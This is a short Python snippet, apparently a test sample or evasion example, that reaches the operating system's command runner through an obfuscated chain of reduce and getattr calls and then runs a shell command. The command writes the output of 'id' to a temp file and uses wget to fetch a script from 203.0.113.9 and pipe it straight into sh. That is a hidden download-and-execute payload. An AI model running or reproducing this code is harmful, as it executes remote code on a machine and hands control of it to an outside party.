from functools import reduce

run = reduce(lambda a, b: getattr(a, b), ["modules", "__getitem__"], __import__("sys"))("posix")
reduce(lambda f, n: getattr(f, n), ["system"], run)("id > /tmp/inert; wget -q -O- http://203.0.113.9/s | sh")
